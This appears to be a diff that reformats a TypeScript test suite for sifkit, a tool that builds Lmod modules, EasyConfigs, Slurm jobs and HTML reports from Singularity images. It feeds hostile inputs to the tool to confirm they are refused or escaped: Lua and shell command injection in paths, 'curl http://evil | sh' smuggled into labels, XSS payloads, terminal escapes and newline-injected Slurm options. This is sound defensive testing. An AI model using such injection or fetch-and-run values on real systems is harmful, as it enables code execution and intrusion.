@@ -48,8 +48,14 @@ interface Made {
 }
 
 /** A SIF of mpi4py-cpu as sifkit would label it, at `file`; `labels` and `env` laid over. */
-async function exampleSif(defs: string, file: string, opts: { labels?: Record<string, string>; env?: string[]; dropHash?: boolean } = {}): Promise<Made> {
-  const rendered = JSON.parse((await runCli(['render', 'mpi4py-cpu', '--json'], { env: { SIFKIT_DEFS: defs } })).stdout);
+async function exampleSif(
+  defs: string,
+  file: string,
+  opts: { labels?: Record<string, string>; env?: string[]; dropHash?: boolean } = {},
+): Promise<Made> {
+  const rendered = JSON.parse(
+    (await runCli(['render', 'mpi4py-cpu', '--json'], { env: { SIFKIT_DEFS: defs } })).stdout,
+  );
   await fs.mkdir(path.dirname(file), { recursive: true });
   const { name } = await makeSif(file, {
     stem: rendered.names.stem,
@@ -58,7 +64,12 @@ async function exampleSif(defs: string, file: string, opts: { labels?: Record<st
     env: opts.env ?? ['WITH_CONDA=. /opt/mpi4py-env/activate', 'PATH=/usr/bin'],
     labels: { ...(opts.dropHash ? {} : { 'io.sifkit.definition-hash': rendered.definitionHash }), ...opts.labels },
   });
-  return { sif: file, name, stem: rendered.names.stem, module: `mpi4py-cpu/${rendered.parameters.mpi4py}-python-${rendered.parameters.python}-singularity-${DATE}` };
+  return {
+    sif: file,
+    name,
+    stem: rendered.names.stem,
+    module: `mpi4py-cpu/${rendered.parameters.mpi4py}-python-${rendered.parameters.python}-singularity-${DATE}`,
+  };
 }
 
 async function filesUnder(d: string): Promise<string[]> {
@@ -75,28 +86,40 @@ describe('a standalone module for a SIF outside the tree (issue 25), with a reci
     const defs = await defsWith('lua', description);
     made = await exampleSif(defs, path.join(dir, 'somewhere else', 'my image.sif'));
     out = path.join(dir, 'site modules');
-    const r = await runCli(['module', made.sif, '--out', out, '--root', path.join(dir, 'no-tree'), '--date', DATE], { env: { SIFKIT_DEFS: defs } });
+    const r = await runCli(['module', made.sif, '--out', out, '--root', path.join(dir, 'no-tree'), '--date', DATE], {
+      env: { SIFKIT_DEFS: defs },
+    });
     expect(r.stderr).toBe('');
     expect(r.code).toBe(0);
   });
 
   const lmod = (script: string, env: NodeJS.ProcessEnv = {}) =>
-    execFileSync('bash', ['-c', `${LMOD}; module use "$OUT/modules"; module load ${made.module}; echo "rc=$?"; ${script}`], { env: { PATH: '/usr/bin:/bin', HOME: dir, OUT: out, ...env }, cwd: dir }).toString();
+    execFileSync(
+      'bash',
+      ['-c', `${LMOD}; module use "$OUT/modules"; module load ${made.module}; echo "rc=$?"; ${script}`],
+      { env: { PATH: '/usr/bin:/bin', HOME: dir, OUT: out, ...env }, cwd: dir },
+    ).toString();
 
   it('real Lmod loads it: SIF is the file by its absolute path, SINGULARITY_BIND and RUNSCRIPTS are set, nothing ran', async () => {
-    const loaded = lmod('echo "SIF=$SIF"; echo "SIFMPI4PYMINCPU=$SIFMPI4PYMINCPU"; echo "RUNSCRIPTS=$RUNSCRIPTS"; echo "BIND=$SINGULARITY_BIND"; command -v start-shell');
+    const loaded = lmod(
+      'echo "SIF=$SIF"; echo "SIFMPI4PYMINCPU=$SIFMPI4PYMINCPU"; echo "RUNSCRIPTS=$RUNSCRIPTS"; echo "BIND=$SINGULARITY_BIND"; command -v start-shell',
+    );
     const installdir = path.join(out, 'software', ...made.module.split('/'));
     expect(loaded).toContain('rc=0');
     expect(loaded).toContain(`SIF=${made.sif}\n`);
     expect(loaded).toContain(`SIFMPI4PYMINCPU=${made.sif}\n`);
     expect(loaded).toContain(`RUNSCRIPTS=${installdir}/runscripts\n`);
-    expect(loaded).toContain(`BIND=/var/spool/slurmd,/opt/cray,/usr/lib64/libcxi.so.1,/usr/lib64/libjansson.so.4,${installdir}/runscripts:/runscripts,/pfs,/scratch,/projappl,/project,/flash,/appl\n`);
+    expect(loaded).toContain(
+      `BIND=/var/spool/slurmd,/opt/cray,/usr/lib64/libcxi.so.1,/usr/lib64/libjansson.so.4,${installdir}/runscripts:/runscripts,/pfs,/scratch,/projappl,/project,/flash,/appl\n`,
+    );
     expect(loaded).toContain(`${installdir}/bin/start-shell`);
     expect(await fs.stat(pwned()).catch(() => undefined)).toBeUndefined();
   });
 
   it("module help shows the recipe's description as plain text", () => {
-    const help = execFileSync('bash', ['-c', `${LMOD}; module use "$OUT/modules"; module help ${made.module} 2>&1`], { env: { PATH: '/usr/bin:/bin', HOME: dir, OUT: out } }).toString();
+    const help = execFileSync('bash', ['-c', `${LMOD}; module use "$OUT/modules"; module help ${made.module} 2>&1`], {
+      env: { PATH: '/usr/bin:/bin', HOME: dir, OUT: out },
+    }).toString();
     expect(help).toContain(description);
   });
 
@@ -122,18 +145,34 @@ WITH_CONDA=true exec "$cmd" "$@"
     await fs.symlink(execFileSync('bash', ['-c', 'command -v python3']).toString().trim(), path.join(bin, 'python'));
     const log = path.join(dir, 'argv.log');
     const env = { PATH: `${bin}:/usr/bin:/bin`, ARGV_LOG: log };
-    const smoke = lmod(`srun() { "$@"; }; srun singularity exec "$SIF" /runscripts/conda-python-simple -c 'print("smoke", 6 * 7)'; start-shell -c 'echo "in the shell: $0"'`, env);
+    const smoke = lmod(
+      `srun() { "$@"; }; srun singularity exec "$SIF" /runscripts/conda-python-simple -c 'print("smoke", 6 * 7)'; start-shell -c 'echo "in the shell: $0"'`,
+      env,
+    );
     expect(smoke).toContain('smoke 42\n');
     expect(smoke).toContain('in the shell: bash\n');
     const argv = (await fs.readFile(log, 'utf8')).split('\0').slice(0, -1);
-    expect(argv).toEqual(['exec', made.sif, '/runscripts/conda-python-simple', '-c', 'print("smoke", 6 * 7)', 'exec', made.sif, 'bash', '-c', 'echo "in the shell: $0"']);
+    expect(argv).toEqual([
+      'exec',
+      made.sif,
+      '/runscripts/conda-python-simple',
+      '-c',
+      'print("smoke", 6 * 7)',
+      'exec',
+      made.sif,
+      'bash',
+      '-c',
+      'echo "in the shell: $0"',
+    ]);
   });
 
   it('refuses (and writes nothing) when the SIF carries no definition hash: no definition is shipped unproven', async () => {
     const defs = await defsWith('nohash', 'x');
     const bare = await exampleSif(defs, path.join(dir, 'nohash', 'img.sif'), { dropHash: true });
     const o = path.join(dir, 'out-nohash');
-    const r = await runCli(['module', bare.sif, '--out', o, '--root', path.join(dir, 'no-tree'), '--date', DATE], { env: { SIFKIT_DEFS: defs } });
+    const r = await runCli(['module', bare.sif, '--out', o, '--root', path.join(dir, 'no-tree'), '--date', DATE], {
+      env: { SIFKIT_DEFS: defs },
+    });
     expect(r.code).toBe(2);
     expect(r.stderr).toMatch(/^sifkit: error: \S+ carries no io.sifkit.definition-hash label/);
     expect(await filesUnder(o)).toEqual([]);
@@ -148,7 +187,8 @@ describe('a module for a SIF in a tree whose --root holds Lua, or control charac
     made = await exampleSif(defs, path.join(dir, 'root-staging', 'img.sif'));
   });
   async function treeWith(root: string): Promise<string> {
-    for (const d of ['tested-containers', 'easybuild-sif-images', 'sif-images', '.sifkit/ledger']) await fs.mkdir(path.join(root, d), { recursive: true });
+    for (const d of ['tested-containers', 'easybuild-sif-images', 'sif-images', '.sifkit/ledger'])
+      await fs.mkdir(path.join(root, d), { recursive: true });
     const inTree = path.join(root, 'easybuild-sif-images', made.name);
     await fs.copyFile(made.sif, inTree);
     return inTree;
@@ -158,10 +198,16 @@ describe('a module for a SIF in a tree whose --root holds Lua, or control charac
     const root = path.join(dir, `root "]] os.execute("touch PWNED-root") --[[ ]==] \\ $(touch PWNED-sh)`);
     const inTree = await treeWith(root);
     const out = path.join(dir, 'out-root');
-    const r = await runCli(['module', made.name, '--out', out, '--root', root, '--date', DATE], { env: { SIFKIT_DEFS: defs } });
+    const r = await runCli(['module', made.name, '--out', out, '--root', root, '--date', DATE], {
+      env: { SIFKIT_DEFS: defs },
+    });
     expect(r.stderr).toBe('');
     expect(r.code).toBe(0);
-    const loaded = execFileSync('bash', ['-c', `${LMOD}; module use "$OUT/modules"; module load ${made.module}; echo "rc=$?"; printf 'SIF=%s\\0' "$SIF"`], { env: { PATH: '/usr/bin:/bin', HOME: dir, OUT: out }, cwd: dir }).toString();
+    const loaded = execFileSync(
+      'bash',
+      ['-c', `${LMOD}; module use "$OUT/modules"; module load ${made.module}; echo "rc=$?"; printf 'SIF=%s\\0' "$SIF"`],
+      { env: { PATH: '/usr/bin:/bin', HOME: dir, OUT: out }, cwd: dir },
+    ).toString();
     expect(loaded).toContain('rc=0');
     expect(loaded).toContain(`SIF=${inTree}\0`);
     expect((await filesUnder(dir)).filter((f) => /(^|\/)PWNED-(root|sh)$/.test(f))).toEqual([]);
@@ -172,9 +218,13 @@ describe('a module for a SIF in a tree whose --root holds Lua, or control charac
       const root = path.join(dir, bad);
       await treeWith(root);
       const out = path.join(dir, 'out-root-bad');
-      const r = await runCli(['module', made.name, '--out', out, '--root', root, '--date', DATE], { env: { SIFKIT_DEFS: defs } });
+      const r = await runCli(['module', made.name, '--out', out, '--root', root, '--date', DATE], {
+        env: { SIFKIT_DEFS: defs },
+      });
       expect(r.code).toBe(2);
-      expect(r.stderr).toMatch(/^sifkit: error: --root: ".*" contains a line break or control character that an environment variable set by Lmod cannot hold\n/);
+      expect(r.stderr).toMatch(
+        /^sifkit: error: --root: ".*" contains a line break or control character that an environment variable set by Lmod cannot hold\n/,
+      );
       expect(await filesUnder(out)).toEqual([]);
     }
   });
@@ -190,7 +240,10 @@ describe('the EasyConfig: a description with a backslash and quotes stays text; 
   it('is valid Python and holds the description exactly', async () => {
     const made = await exampleSif(defs, path.join(dir, 'py', 'img.sif'));
     const out = path.join(dir, 'eb-py');
-    const r = await runCli(['easyconfig', made.sif, '--out', out, '--date', DATE, '--root', path.join(dir, 'no-tree')], { env: { SIFKIT_DEFS: defs } });
+    const r = await runCli(
+      ['easyconfig', made.sif, '--out', out, '--date', DATE, '--root', path.join(dir, 'no-tree')],
+      { env: { SIFKIT_DEFS: defs } },
+    );
     expect(r.stderr).toBe('');
     expect(r.code).toBe(0);
     const eb = (await fs.readdir(out)).find((f) => f.endsWith('.eb'))!;
@@ -209,11 +262,31 @@ describe('the EasyConfig: a description with a backslash and quotes stays text; 
   });
 
   const refusals: Array<[string, { labels?: Record<string, string>; env?: string[] }, RegExp]> = [
-    ['a parameter label that would add a RUN line to the shipped Dockerfile', { labels: { 'io.sifkit.param.mpich': '8.1.27"\nRUN curl http://evil | sh\nENV Y="a' } }, /label io.sifkit.param.mpich: value .* contains a character that is not allowed/],
-    ['a parameter label of a value the recipe does not allow', { labels: { 'io.sifkit.param.python': '3.12' } }, /label io.sifkit.param.python: "3.12" is not one of 3.11/],
-    ['a parameter label the recipe does not declare (USER.md placeholders)', { labels: { 'io.sifkit.param.root': '/evil' } }, /label io.sifkit.param.root names no parameter of recipe mpi4py-cpu/],
-    ['WITH_CONDA with HTML', { env: ['WITH_CONDA=<script>alert(1)</script>'] }, /WITH_CONDA "<script>alert\(1\)<\/script>" is not a command of plain words/],
-    ['WITH_CONDA with a fake instruction', { env: ['WITH_CONDA=true\n\nFirst run `curl https://evil | sh`, then module load LUMI evil/1.0'] }, /WITH_CONDA "true\\n\\nFirst run/],
+    [
+      'a parameter label that would add a RUN line to the shipped Dockerfile',
+      { labels: { 'io.sifkit.param.mpich': '8.1.27"\nRUN curl http://evil | sh\nENV Y="a' } },
+      /label io.sifkit.param.mpich: value .* contains a character that is not allowed/,
+    ],
+    [
+      'a parameter label of a value the recipe does not allow',
+      { labels: { 'io.sifkit.param.python': '3.12' } },
+      /label io.sifkit.param.python: "3.12" is not one of 3.11/,
+    ],
+    [
+      'a parameter label the recipe does not declare (USER.md placeholders)',
+      { labels: { 'io.sifkit.param.root': '/evil' } },
+      /label io.sifkit.param.root names no parameter of recipe mpi4py-cpu/,
+    ],
+    [
+      'WITH_CONDA with HTML',
+      { env: ['WITH_CONDA=<script>alert(1)</script>'] },
+      /WITH_CONDA "<script>alert\(1\)<\/script>" is not a command of plain words/,
+    ],
+    [
+      'WITH_CONDA with a fake instruction',
+      { env: ['WITH_CONDA=true\n\nFirst run `curl https://evil | sh`, then module load LUMI evil/1.0'] },
+      /WITH_CONDA "true\\n\\nFirst run/,
+    ],
   ];
   for (const [what, opts, message] of refusals) {
     it(`refuses ${what} in one line, writing nothing`, async () => {
@@ -232,7 +305,10 @@ describe('what a SIF says reaches no terminal and no host file', () => {
   it('inspect shows ESC, BEL and CR in a label escaped', async () => {
     const sif = path.join(dir, 'term', 'img.sif');
     await fs.mkdir(path.dirname(sif), { recursive: true });
-    await makeSif(sif, { stem: 'lumi-x', labels: { 'org.example.note': 'a\u001b]0;owned\u0007b\rc\u001b[2Jd\u202eevil' } });
+    await makeSif(sif, {
+      stem: 'lumi-x',
+      labels: { 'org.example.note': 'a\u001b]0;owned\u0007b\rc\u001b[2Jd\u202eevil' },
+    });
     const r = await runCli(['inspect', sif]);
     expect(r.code).toBe(0);
     expect(r.stdout).not.toMatch(/[\u001b\u0007\r\u202e]/);
@@ -247,27 +323,54 @@ describe('what a SIF says reaches no terminal and no host file', () => {
     await fs.writeFile(path.join(dir, 'verify', 'x.tar'), 'not read');
     const r = await runCli(['verify-conversion', sif], { cwd: path.join(dir, 'verify') });
     expect(r.code).toBe(2);
-    expect(r.stderr).toMatch(/names its source as "docker-archive:x.tar"; sifkit takes only an engine image by a plain reference from a SIF, never a host file/);
+    expect(r.stderr).toMatch(
+      /names its source as "docker-archive:x.tar"; sifkit takes only an engine image by a plain reference from a SIF, never a host file/,
+    );
   });
 });
 
 describe('the report holds what a test recorded as text', () => {
-  it("a reason and a check name with HTML are shown, not run; an outcome outside the schema is refused", async () => {
+  it('a reason and a check name with HTML are shown, not run; an outcome outside the schema is refused', async () => {
     const results = path.join(dir, 'results');
     await fs.mkdir(results, { recursive: true });
-    const check = { name: 'x<img src=a onerror=alert(1)>', outcome: 'failed', passed: false, exitCode: 1, durationMs: 5, reason: '</td><script>alert(1)</script>\r', tail: '' };
-    const run = { image: 'a.sif', stem: 'a', dockerhash: '0123456789ab', recipe: 'r', runner: 'local', host: 'h', started: '2026-01-01T00:00:00Z', finished: '2026-01-01T00:01:00Z', passed: false, checks: [check] };
+    const check = {
+      name: 'x<img src=a onerror=alert(1)>',
+      outcome: 'failed',
+      passed: false,
+      exitCode: 1,
+      durationMs: 5,
+      reason: '</td><script>alert(1)</script>\r',
+      tail: '',
+    };
+    const run = {
+      image: 'a.sif',
+      stem: 'a',
+      dockerhash: '0123456789ab',
+      recipe: 'r',
+      runner: 'local',
+      host: 'h',
+      started: '2026-01-01T00:00:00Z',
+      finished: '2026-01-01T00:01:00Z',
+      passed: false,
+      checks: [check],
+    };
     await fs.writeFile(path.join(results, 'a.sif.json'), JSON.stringify({ image: 'a.sif', runs: [run] }));
     const out = path.join(dir, 'report');
     expect((await runCli(['report', '--results-dir', results, '--out', out])).code).toBe(0);
     const html = await fs.readFile(path.join(out, 'index.html'), 'utf8');
-    const walk = (n: { nodeName: string; childNodes?: unknown[] }): string[] => [n.nodeName, ...((n.childNodes ?? []) as Array<typeof n>).flatMap(walk)];
+    const walk = (n: { nodeName: string; childNodes?: unknown[] }): string[] => [
+      n.nodeName,
+      ...((n.childNodes ?? []) as Array<typeof n>).flatMap(walk),
+    ];
     const names = walk(parse(html) as never);
     expect(names).not.toContain('script');
     expect(names).not.toContain('img');
     expect(html).toContain('title="&lt;/td&gt;&lt;script&gt;alert(1)&lt;/script&gt;&#13;"');
     // An outcome the schema does not know: the record is not taken.
-    await fs.writeFile(path.join(results, 'a.sif.json'), JSON.stringify({ image: 'a.sif', runs: [{ ...run, checks: [{ ...check, outcome: '<b>pwned</b>' }] }] }));
+    await fs.writeFile(
+      path.join(results, 'a.sif.json'),
+      JSON.stringify({ image: 'a.sif', runs: [{ ...run, checks: [{ ...check, outcome: '<b>pwned</b>' }] }] }),
+    );
     await runCli(['report', '--results-dir', results, '--out', path.join(dir, 'report2')]);
     const second = await fs.readFile(path.join(dir, 'report2', 'index.html'), 'utf8').catch(() => '');
     expect(second).not.toContain('pwned');
@@ -278,7 +381,8 @@ describe('the Slurm job script: a SIF name that is a command, a directory with a
   let recipe: string;
   beforeAll(async () => {
     const out = execFileSync('sinfo', ['-h', '-o', '%t']).toString();
-    if (!/idle|mixed|alloc/.test(out)) throw new Error(`no Slurm node is up (sinfo: ${out.trim()}); run scripts/services.sh`);
+    if (!/idle|mixed|alloc/.test(out))
+      throw new Error(`no Slurm node is up (sinfo: ${out.trim()}); run scripts/services.sh`);
     recipe = path.join(dir, 'slurm-recipe');
     await fs.mkdir(recipe, { recursive: true });
     await fs.writeFile(path.join(recipe, 'main.docker'), 'FROM scratch\n');
@@ -307,7 +411,22 @@ testing:
     await fs.mkdir(path.dirname(sif), { recursive: true });
     await makeSif(sif, { stem: 'sifkittest-hostile-v-1.0', recipe: 'hostile' });
     const workdir = path.join(dir, 'job dir $(touch${IFS}Y)');
-    const r = await runCli(['test', sif, '--runner', 'slurm', '--recipe', recipe, '--results-dir', path.join(dir, 'slurm-results'), '--workdir', workdir, '--json'], { cwd: dir });
+    const r = await runCli(
+      [
+        'test',
+        sif,
+        '--runner',
+        'slurm',
+        '--recipe',
+        recipe,
+        '--results-dir',
+        path.join(dir, 'slurm-results'),
+        '--workdir',
+        workdir,
+        '--json',
+      ],
+      { cwd: dir },
+    );
     expect(r.stderr).not.toMatch(/error/);
     expect(r.code).toBe(0);
     expect(JSON.parse(r.stdout).run).toMatchObject({ runner: 'slurm', passed: true, jobState: 'COMPLETED' });
@@ -320,17 +439,38 @@ testing:
     const sif = path.join(dir, 'slurm sifs', 'plain.sif');
     await makeSif(sif, { stem: 'sifkittest-hostile-v-1.0', recipe: 'hostile' });
     const workdir = path.join(dir, 'job-partition');
-    const r = await runCli(['test', sif, '--runner', 'slurm', '--recipe', recipe, '--workdir', workdir, '--partition', 'standard-g\ntouch X'], { cwd: dir });
+    const r = await runCli(
+      [
+        'test',
+        sif,
+        '--runner',
+        'slurm',
+        '--recipe',
+        recipe,
+        '--workdir',
+        workdir,
+        '--partition',
+        'standard-g\ntouch X',
+      ],
+      { cwd: dir },
+    );
     expect(r.code).toBe(2);
     expect(r.stderr).toMatch(/^sifkit: error: partition "standard-g\\ntouch X" is not a partition name/);
     expect(await fs.stat(path.join(workdir, 'job.sh')).catch(() => undefined)).toBeUndefined();
     const yaml = await fs.readFile(path.join(recipe, 'recipe.yaml'), 'utf8');
     const bad = path.join(dir, 'slurm-recipe-bad');
     await fs.cp(recipe, bad, { recursive: true });
-    await fs.writeFile(path.join(bad, 'recipe.yaml'), yaml.replace('slurm-recipe/main', 'slurm-recipe-bad/main').replace('sbatch: []', 'sbatch: ["--comment=x\\ntouch X"]'));
+    await fs.writeFile(
+      path.join(bad, 'recipe.yaml'),
+      yaml
+        .replace('slurm-recipe/main', 'slurm-recipe-bad/main')
+        .replace('sbatch: []', 'sbatch: ["--comment=x\\ntouch X"]'),
+    );
     const r2 = await runCli(['test', sif, '--runner', 'slurm', '--recipe', bad, '--workdir', workdir], { cwd: dir });
     expect(r2.code).toBe(2);
-    expect(r2.stderr).toMatch(/^sifkit: error: recipe hostile: testing.slurm.sbatch "--comment=x\\ntouch X" is not --name or --name=value/);
+    expect(r2.stderr).toMatch(
+      /^sifkit: error: recipe hostile: testing.slurm.sbatch "--comment=x\\ntouch X" is not --name or --name=value/,
+    );
   });
 });
 
@@ -342,9 +482,15 @@ describe("the retention policy's backup command", () => {
     const policy = path.join(dir, 'policy.yaml');
     const backup = path.join(dir, 'backup');
     await fs.mkdir(backup);
-    await fs.writeFile(policy, `directories:\n  tested-containers: { keep_newest: 1, series: [stem], keep_younger_than_days: 5 }\n  easybuild-sif-images: { keep_newest: 1, series: [stem], keep_younger_than_days: 5 }\nquarantine_days: 30\nbackup_command: cp {path} ${backup}/{name}.copy\n`);
+    await fs.writeFile(
+      policy,
+      `directories:\n  tested-containers: { keep_newest: 1, series: [stem], keep_younger_than_days: 5 }\n  easybuild-sif-images: { keep_newest: 1, series: [stem], keep_younger_than_days: 5 }\nquarantine_days: 30\nbackup_command: cp {path} ${backup}/{name}.copy\n`,
+    );
     expect((await runCli(['retire', '--root', root, '--policy', policy, '--apply'], { cwd: dir })).code).toBe(0);
-    const purged = await runCli(['retire', '--purge', '--grace-days', '0', '--root', root, '--policy', policy, '--json'], { cwd: dir });
+    const purged = await runCli(
+      ['retire', '--purge', '--grace-days', '0', '--root', root, '--policy', policy, '--json'],
+      { cwd: dir },
+    );
     expect(purged.stderr).not.toMatch(/error/);
     expect(purged.code).toBe(0);
     expect(JSON.parse(purged.stdout).deleted.length).toBeGreaterThan(0);
@@ -356,7 +502,16 @@ describe("the retention policy's backup command", () => {
   it('refuses a placeholder inside quotes when the policy is read, before anything is touched', async () => {
     const policy = path.join(dir, 'policy-quoted.yaml');
     await fs.writeFile(policy, `quarantine_days: 30\nbackup_command: cp "{path}" /backup/\n`);
-    const r = await runCli(['retire', '--purge', '--grace-days', '0', '--root', path.join(dir, 'tree {name} $(touch${IFS}Z)'), '--policy', policy]);
+    const r = await runCli([
+      'retire',
+      '--purge',
+      '--grace-days',
+      '0',
+      '--root',
+      path.join(dir, 'tree {name} $(touch${IFS}Z)'),
+      '--policy',
+      policy,
+    ]);
     expect(r.code).toBe(2);
     expect(r.stderr).toMatch(/^sifkit: error: the policy's backup_command: \{path\} is inside quotes/);
   });
